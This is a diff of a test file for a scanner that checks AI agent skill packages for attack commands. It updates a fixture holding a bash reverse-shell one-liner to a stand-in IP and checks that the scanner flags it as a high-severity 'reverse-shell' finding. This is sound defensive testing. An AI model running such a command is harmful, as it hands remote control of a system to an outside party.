@@ -181,7 +181,7 @@ describe('scanSkill', () => {
     });
 
     it('counts attack commands in reference documentation lower, unless SKILL.md says to follow them', async () => {
-      const reference = '# Techniques\n\n```bash\nbash -i >& /dev/tcp/10.0.0.5/4444 0>&1\n```\n';
+      const reference = '# Techniques\n\n```bash\nbash -i >& /dev/tcp/198.51.100.5/4444 0>&1\n```\n';
       const documented = await scanSkill(await makeSkill({ 'SKILL.md': `${SKILL_MD}\nSee references/techniques.md for background.\n`, 'references/techniques.md': reference }));
       expect(documented.findings.find((item) => item.ruleId === 'reverse-shell')).toMatchObject({ severity: 'high', confidence: 'low' });
       expect(documented.verdict).toBe('warn');
